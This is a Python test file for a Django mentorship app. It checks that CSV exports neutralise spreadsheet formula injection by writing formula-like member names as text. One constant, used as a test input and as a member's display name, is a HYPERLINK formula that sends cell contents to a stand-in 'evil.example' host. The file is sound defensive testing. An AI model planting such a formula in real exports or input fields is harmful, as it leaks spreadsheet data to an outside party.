"""Insights CSVs are opened in spreadsheets: a member-entered name that begins like a
formula (`=HYPERLINK(...)`) is written as text, never run (issue 16)."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from community.spreadsheet import csv_cell
from profiles.models import Profile
from support.tests.factories import CheckInFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_like_cell_is_written_as_text(text):
    assert csv_cell(text) == "'" + text


def test_plain_text_numbers_and_empty_cells_are_written_as_they_are():
    assert csv_cell("Fatima") == "Fatima" and csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) == ""


def test_a_mea_named_like_a_formula_reaches_the_coordinators_csv_as_text(client, coordinator, mea, group, settings):
    settings.SMALL_CELL_THRESHOLD = 1
    from matches.tests.factories import MatchFactory, approved_mentor
    from profiles.tests.factories import member

    Profile.objects.filter(user=mea).update(display_name=HYPERLINK)
    match = MatchFactory(mentor=approved_mentor(group), mentee=member("mentee", group), group=group, mea=mea)
    CheckInFactory(match=match, mea=mea, held_on=timezone.localdate())
    client.force_login(coordinator)
    response = client.get(reverse("community:insights_csv", args=["checkins-on-time"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[0] for row in rows[1:]]
    assert names == ["'" + HYPERLINK]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_every_csv_writer_of_the_project_is_the_safe_one():
    """A new csv.writer elsewhere would skip the neutralising: the project writes CSV only through csv_writer."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [str(path.relative_to(root)) for app in ("profiles", "matches", "escalations", "support", "community",
                                                         "mentorship")
                 for path in (root / app).rglob("*.py")
                 if "tests" not in path.parts and path.name != "spreadsheet.py"
                 and ("csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text())]
    assert not offenders, offenders
